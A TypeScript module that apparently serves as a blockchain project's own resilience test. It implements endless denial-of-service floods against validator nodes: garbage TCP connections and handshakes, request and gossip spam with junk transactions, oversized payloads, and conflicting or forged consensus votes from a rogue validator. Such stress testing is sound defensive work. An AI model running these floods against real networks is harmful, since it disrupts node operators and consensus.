/**
 * Three ways to flood a validator at full speed, with real libp2p and the keys that the attacker would have.
 *
 * Owns what is sent. Each flood is endless, reconnects whenever it is thrown out, and shares one thread with nothing
 * else. No throttle of its own: what slows it down is the other side and the processor.
 */
import { connect } from 'node:net';
import { noise } from '@chainsafe/libp2p-noise';
import { generateKeyPair, generateKeyPairFromSeed } from '@libp2p/crypto/keys';
import type { Connection, PrivateKey, Stream } from '@libp2p/interface';
import { tcp } from '@libp2p/tcp';
import { yamux } from '@libp2p/yamux';
import { multiaddr } from '@multiformats/multiaddr';
import { createLibp2p, type Libp2p } from 'libp2p';
import { signDigest } from '#consensus/crypto/secp256k1.ts';
import { proposalDigest, voteDigest } from '#consensus/digests.ts';
import { type Address, bytesToHex, concatBytes, type Hash, type Signature } from '#consensus/primitives.ts';
import { type Signer, signRequestDigest } from '#consensus/signer.ts';
import { type ConsensusDomain, NIL } from '#consensus/types.ts';
import { CONSENSUS_REQUEST_PROTOCOL } from '#node/consensus/asking.ts';
import { encodeMessage } from '#node/consensus/messages.ts';
import { FORK_PLAN_HASH } from '#node/network/forkPlan.ts';
import { encodeFrame } from '#node/network/frames.ts';
import { encodeBatch } from '#node/network/gossip.ts';
import { HANDSHAKE_PROTOCOL, performHandshake } from '#node/network/handshake.ts';
import {
  BULK_PROTOCOL,
  PING_PROTOCOL,
  PROTOCOL_VERSION,
  URGENT_PROTOCOL,
} from '#node/network/networkOptions.ts';
import { BLOCKS_PROTOCOL, HEADERS_PROTOCOL } from '#node/sync/blockServer.ts';
import { HEAD_PROTOCOL } from '#node/sync/heads.ts';

export type FloodTarget = {
  readonly host: string;
  readonly port: number;
  readonly peerId: string;
  readonly validator: Address;
};

export type FloodInput = {
  readonly domain: ConsensusDomain;
  readonly targets: readonly FloodTarget[];
  readonly nodeSeed: Uint8Array | null;
  readonly consensusKey: Uint8Array | null;
  /** Where the chain is, so that votes are for the height that counts. */
  readonly height: () => bigint;
  readonly sent: (what: string, count: number) => void;
};

const turn = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));
const filled = (size: number): Uint8Array => crypto.getRandomValues(new Uint8Array(Math.min(size, 65_536)));
const randomHash = (): Hash => bytesToHex(filled(32)) as Hash;
const large = new Uint8Array(2 * 1024 * 1024).fill(0xee);

const createNode = async (privateKey: PrivateKey): Promise<Libp2p> =>
  createLibp2p({
    privateKey,
    addresses: { listen: [] },
    transports: [tcp()],
    connectionEncrypters: [noise()],
    streamMuxers: [yamux({ maxOutboundStreams: 1_024 })],
    connectionMonitor: { enabled: false },
    connectionGater: { denyDialMultiaddr: () => false },
    connectionManager: { maxConnections: 10_000, reconnectRetries: 0 },
  });

const dial = (node: Libp2p, { host, port }: FloodTarget): Promise<Connection> =>
  node.dial(multiaddr(`/ip4/${host}/tcp/${port}`), { force: true, signal: AbortSignal.timeout(3_000) });

/** For ever, and never faster than the loop can turn. */
const forEver = async (work: () => Promise<void>): Promise<never> => {
  for (;;) {
    await work().catch(() => undefined);
    await turn();
  }
};

// ── a stranger ─────────────────────────────────────────────────────────────────────────────────────────────────

const rawConnection = (target: FloodTarget, sent: FloodInput['sent']): Promise<void> =>
  new Promise((resolve) => {
    const socket = connect(target.port, target.host, () => {
      sent('tcp connections', 1);
      socket.write(filled(256));
    });
    socket.setTimeout(2_000, () => socket.destroy());
    socket.on('error', () => undefined);
    socket.on('close', () => resolve());
    socket.resume();
  });

/** Raw connections with garbage, noise handshakes of ever new PeerIds, and garbage for a handshake. */
const floodAsStranger = async ({ targets, sent }: FloodInput): Promise<void> => {
  const garbageHandshakes = async (target: FloodTarget): Promise<void> => {
    const node = await createNode(await generateKeyPair('Ed25519'));
    for (let i = 0; i < 20; i++) {
      try {
        const connection = await dial(node, target);
        sent('noise handshakes', 1);
        const stream = await connection.newStream(HANDSHAKE_PROTOCOL, { signal: AbortSignal.timeout(1_000) });
        stream.send(encodeFrame(filled(900)));
        sent('garbage handshakes', 1);
      } catch {
        // refused: again
      }
    }
    await node.stop();
  };
  await Promise.all(
    targets.flatMap((target) => [
      ...Array.from({ length: 24 }, () => forEver(() => rawConnection(target, sent))),
      ...Array.from({ length: 2 }, () => forEver(() => garbageHandshakes(target))),
    ]),
  );
};

// ── a peer ─────────────────────────────────────────────────────────────────────────────────────────────────────

/** Sends as long as the other side takes it; resolves when the stream is over. */
const pour = async (stream: Stream, next: () => Uint8Array, count: () => void): Promise<void> => {
  while (stream.status === 'open') {
    if (stream.writableNeedsDrain) {
      await new Promise<void>((resolve) => {
        const go = (): void => {
          stream.removeEventListener('drain', go);
          stream.removeEventListener('close', go);
          resolve();
        };
        stream.addEventListener('drain', go);
        stream.addEventListener('close', go);
        setTimeout(go, 500);
      });
      continue;
    }
    stream.send(next());
    count();
    await turn();
  }
};

const shakeHands = async (
  connection: Connection,
  { domain, consensusKey }: FloodInput,
  target: FloodTarget,
  peerId: string,
): Promise<void> => {
  const signer: Signer | null =
    consensusKey === null
      ? null
      : {
          address: target.validator,
          sign: async (request) => signDigest(signRequestDigest(request), consensusKey),
        };
  const stream = await connection.newStream(HANDSHAKE_PROTOCOL, { signal: AbortSignal.timeout(3_000) });
  await performHandshake(
    stream,
    { protocolVersion: PROTOCOL_VERSION, domain, forkPlanHash: FORK_PLAN_HASH, peerId, signer },
    { peerId: target.peerId, validator: target.validator, accepts: () => true },
    AbortSignal.timeout(3_000),
  );
};

const varint = (value: number): Uint8Array => {
  const bytes: number[] = [];
  for (let rest = value; ; rest >>>= 7) {
    if (rest < 128) return Uint8Array.from([...bytes, rest]);
    bytes.push((rest & 127) | 128);
  }
};
const field = (number: number, body: Uint8Array): Uint8Array =>
  concatBytes(varint((number << 3) | 2), varint(body.length), body);

/** One gossipsub RPC with one message of ours, framed as gossipsub frames it. */
const gossipRpc = ({ domain }: FloodInput, transactions: readonly Uint8Array[]): Uint8Array => {
  const topic = new TextEncoder().encode(
    `/causeway/${domain.chainId}/${domain.genesisHash.slice(2, 18)}/transactions/1`,
  );
  const message = concatBytes(field(2, encodeBatch(transactions)), field(4, topic));
  const rpc = field(2, message);
  return concatBytes(varint(rpc.length), rpc);
};

/** A legacy transaction whose signature is random: it decodes and recovers to nobody's account, or to nothing. */
const junkTransaction = (): Uint8Array =>
  concatBytes(
    Uint8Array.of(0xf8, 0x6c, 0x80, 0x84, 0x77, 0x35, 0x94, 0x00, 0x82, 0x52, 0x08, 0x94),
    filled(20),
    Uint8Array.of(0x88),
    Uint8Array.of(1),
    filled(7),
    Uint8Array.of(0x80, 0x83, 0x01, 0x4b, 0x77, 0xa0),
    Uint8Array.of(1),
    filled(31),
    Uint8Array.of(0xa0, 1),
    filled(31),
  );

const voteOf = (input: FloodInput, forged: boolean): Uint8Array => {
  const vote = {
    type: Math.random() < 0.5 ? ('prevote' as const) : ('precommit' as const),
    height: input.height() + 1n + BigInt(Math.floor(Math.random() * 2)),
    round: Math.floor(Math.random() * 50),
    valueId: randomHash(),
  };
  const signature: Signature =
    forged || input.consensusKey === null
      ? (`0x${Buffer.from(concatBytes(Uint8Array.of(1), filled(31), Uint8Array.of(1), filled(31))).toString('hex')}1b` as Signature)
      : signDigest(voteDigest(input.domain, vote), input.consensusKey);
  return encodeFrame(encodeMessage({ type: 'vote', vote: { ...vote, signature, payloadHash: null } }));
};

const proposalOf = (input: FloodInput): Uint8Array => {
  const proposal = {
    height: input.height() + 1n,
    round: Math.floor(Math.random() * 50),
    polRound: -1,
    payloadHash: randomHash(),
    valueId: NIL,
  };
  const signature = signDigest(proposalDigest(input.domain, proposal), input.consensusKey!);
  return encodeFrame(encodeMessage({ type: 'proposal', proposal: { ...proposal, signature } }));
};

const payloadOf = (input: FloodInput): Uint8Array =>
  encodeFrame(
    encodeMessage({
      type: 'payload',
      height: input.height() + 1n,
      payload: {
        parentHash: randomHash(),
        timestamp: BigInt(Math.floor(Date.now() / 1_000)),
        feeRecipient: input.targets[0]!.validator,
        transactions: Array.from({ length: 8 }, () => large.subarray(0, 120_000)),
      },
    }),
  );

const REQUESTS = [
  HEAD_PROTOCOL,
  BLOCKS_PROTOCOL,
  HEADERS_PROTOCOL,
  CONSENSUS_REQUEST_PROTOCOL,
  PING_PROTOCOL,
];

/** Requests of every protocol, and of none, 32 under way at a time. */
const floodRequests = (connection: Connection, { sent }: FloodInput): Promise<unknown> =>
  Promise.all(
    Array.from({ length: 32 }, async (_, i) => {
      while (connection.status === 'open') {
        const protocol = REQUESTS[i % (REQUESTS.length + 1)] ?? '/nobody/serves/this/1';
        try {
          const stream = await connection.newStream(protocol, { signal: AbortSignal.timeout(1_000) });
          stream.send(encodeFrame(protocol === PING_PROTOCOL ? new Uint8Array(0) : filled(16)));
          sent('requests', 1);
          await turn();
          stream.abort(new Error('next'));
        } catch {
          await turn();
        }
      }
    }),
  );

const floodGossip = async (connection: Connection, input: FloodInput): Promise<void> => {
  const batches = Array.from({ length: 16 }, () =>
    gossipRpc(input, Array.from({ length: 500 }, junkTransaction)),
  );
  const stream = await connection.newStream(['/meshsub/1.2.0'], { signal: AbortSignal.timeout(2_000) });
  let at = 0;
  await pour(
    stream,
    () => batches[at++ % batches.length]!,
    () => input.sent('gossip batches', 1),
  );
};

const floodStream = async (
  connection: Connection,
  protocol: string,
  next: () => Uint8Array,
  count: () => void,
): Promise<void> =>
  pour(await connection.newStream(protocol, { signal: AbortSignal.timeout(2_000) }), next, count);

/** One connection after the other, everything over each; `legs` are the streams that go beside requests and gossip. */
const floodAsPeer = async (
  input: FloodInput,
  legs: (connection: Connection) => readonly Promise<unknown>[],
): Promise<void> => {
  const node = await createNode(await generateKeyPairFromSeed('Ed25519', input.nodeSeed!));
  await node.handle(PING_PROTOCOL, (stream) => {
    stream.addEventListener('message', () => {
      if (stream.writeStatus === 'writable') stream.send(new Uint8Array(4));
    });
  });
  await Promise.all(
    input.targets.map((target) =>
      forEver(async () => {
        await new Promise((resolve) => setTimeout(resolve, 20));
        // a banned flooder goes on knocking: that is its flood then
        input.sent('dials', 1);
        const connection = await dial(node, target);
        await shakeHands(connection, input, target, node.peerId.toString());
        input.sent('handshakes done', 1);
        await Promise.allSettled([
          floodRequests(connection, input),
          floodGossip(connection, input),
          ...legs(connection),
        ]);
        connection.abort(new Error('again'));
      }),
    ),
  );
};

/** An allow-listed node without a consensus key. */
const floodAsFullNode = (input: FloodInput): Promise<void> =>
  floodAsPeer(input, (connection) => {
    const raw = encodeFrame(filled(300));
    return [
      floodStream(
        connection,
        HEAD_PROTOCOL,
        () => large,
        () => input.sent('oversized requests', 1),
      ),
      // half of its lives without consensus messages, which are forbidden and end the connection soon
      ...(Math.random() < 0.5
        ? []
        : [
            floodStream(
              connection,
              URGENT_PROTOCOL,
              () => raw,
              () => input.sent('forbidden messages', 1),
            ),
          ]),
    ];
  });

/** A validator gone bad: signed votes for many rounds and values, forged ones, junk proposals, large payloads. */
const floodAsValidator = (input: FloodInput): Promise<void> => {
  const votes = (): Uint8Array => {
    input.sent('votes', 16);
    return concatBytes(...Array.from({ length: 16 }, () => voteOf(input, false)));
  };
  return floodAsPeer(input, (connection) => [
    floodStream(connection, URGENT_PROTOCOL, votes, () => undefined),
    floodStream(
      connection,
      URGENT_PROTOCOL,
      () => proposalOf(input),
      () => input.sent('proposals', 1),
    ),
    floodStream(
      connection,
      BULK_PROTOCOL,
      () => payloadOf(input),
      () => input.sent('payloads', 1),
    ),
    // forged signatures are a fault each and end in a ban: in some lives only
    ...(Math.random() < 0.7
      ? []
      : [
          floodStream(
            connection,
            URGENT_PROTOCOL,
            () => voteOf(input, true),
            () => input.sent('forged votes', 1),
          ),
        ]),
  ]);
};

export type FloodName = 'stranger' | 'fullNode' | 'validator';
export const FLOODS: Record<FloodName, (input: FloodInput) => Promise<void>> = {
  stranger: floodAsStranger,
  fullNode: floodAsFullNode,
  validator: floodAsValidator,
};
